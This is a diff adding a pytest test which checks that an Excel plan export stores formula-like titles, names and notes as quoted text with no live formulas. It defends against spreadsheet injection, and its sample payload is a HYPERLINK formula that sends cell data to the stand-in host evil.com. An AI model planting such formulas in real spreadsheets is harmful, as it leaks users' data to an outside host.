@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import io
+from dataclasses import replace
 from pathlib import Path
 
 import pytest
@@ -145,3 +146,20 @@ def test_a_picture_of_the_workbook_is_kept_for_people_to_look_at(
     keep(keep_path, "plan-2.xlsx")
     pictures = render_pages(xlsx_picture(data, "分配方案", tmp_path / "plan.pdf"), "plan-2-xlsx")
     assert pictures and ink(pictures[0]) > 0.01
+
+
+def test_a_formula_like_title_name_or_note_is_written_as_the_text_it_is(world: World) -> None:
+    """A plan title, an organisation's name or a note someone typed as ``=HYPERLINK(…)`` must
+    not become a live formula in the finance bureau's Excel; amounts stay numbers."""
+    trap = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
+    plan = load_plan(world.svc, world.actor("dai"), 2)
+    first, *rest = plan.rows
+    plan = replace(plan, title=trap, rows=[replace(first, org_name="@SUM(A1)", note="+1+1"), *rest])
+    sheet = load_workbook(io.BytesIO(plan_xlsx(plan)))["分配方案"]
+    texts = {c.value: c for row in sheet.iter_rows() for c in row if isinstance(c.value, str)}
+    for text in (trap, "@SUM(A1)"):
+        assert texts[text].data_type == "s" and texts[text].quotePrefix, text
+    assert any(value.endswith("+1+1") for value in texts)  # the note, in the remark column
+    assert not [c for row in sheet.iter_rows() for c in row if c.data_type == "f"]
+    money = [c for row in sheet.iter_rows(min_row=4) for c in row[6:8] if c.value is not None]
+    assert money and all(c.data_type == "n" for c in money)
